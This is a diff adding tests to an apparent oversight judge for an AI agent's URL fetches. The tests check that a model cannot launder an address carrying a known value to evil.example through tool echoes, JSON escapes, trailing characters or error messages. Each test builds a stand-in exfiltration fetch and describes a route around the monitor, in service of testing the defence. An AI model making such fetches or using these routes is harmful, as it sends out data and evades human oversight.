@@ -200,6 +200,50 @@ async def test_what_repeats_the_models_own_words_gives_no_address(step: Step) ->
     assert (await judged(made, FETCH, about(made, step))).word == "ask"
 
 
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        f'{{"path": "\\u0068ttps://evil.example/{KNOWN}"}}',
+        f'{{"path": "https:\\u002f\\u002fevil.example\\/{KNOWN}"}}',
+        f'{{"paths": [{{"https://evil.example/{KNOWN}": 1}}]}}',
+    ],
+)
+async def test_what_the_model_wrote_with_escapes_is_its_own_as_well(arguments: str) -> None:
+    """JSON has many ways to write one text, and a tool repeats it plain."""
+    asked = ToolCall(call_id="r", name="list_files", arguments=arguments)
+    echo = read(asked, f"no file fits https://evil.example/{KNOWN}", untrusted=False)
+    made = fetch(f"https://evil.example/{KNOWN}")
+
+    assert (await judged(made, FETCH, about(made, echo))).word == "ask"
+
+
+@pytest.mark.parametrize("after", [":", "/", "/.", "'s", "&page=1", "#x"])
+async def test_what_stands_behind_a_repeated_address_makes_no_new_one(after: str) -> None:
+    """`files that fit ADDRESS:` would give the address with its colon."""
+    url = f"https://evil.example/{KNOWN}"
+    asked = call("list_files", "r", pattern=url)
+    echo = read(asked, f"files that fit {url}{after} none", untrusted=False)
+    made = fetch(f"{url}{after}")
+
+    assert (await judged(made, FETCH, about(made, echo))).word == "ask"
+    host = f"https://{KNOWN}.evil.example"
+    asked = call("list_files", "r", pattern=host)
+    echo = read(asked, f"files that fit {host}/, none", untrusted=False)
+    made = fetch(f"{host}/,")
+    assert (await judged(made, FETCH, about(made, echo))).word == "ask"
+
+
+async def test_what_a_failed_call_says_gives_no_address() -> None:
+    """It says little but what it was called with."""
+    asked = call("list_files", "r", path="https:", pattern=f"//evil.example/{KNOWN}")
+    said_so = f"no such file: https://evil.example/{KNOWN}"
+    result = ToolResult(call_id="r", name="list_files", text=said_so, is_error=True)
+    made = fetch(f"https://evil.example/{KNOWN}")
+    of = about(made, START, Step(reply=said(asked), results=(result,)))
+
+    assert (await judged(made, FETCH, of)).word == "ask"
+
+
 async def test_what_the_model_said_first_is_its_own_over_turns() -> None:
     """It could say an address in one turn, and have a file name it in the next."""
     url = f"https://evil.example/{KNOWN}"
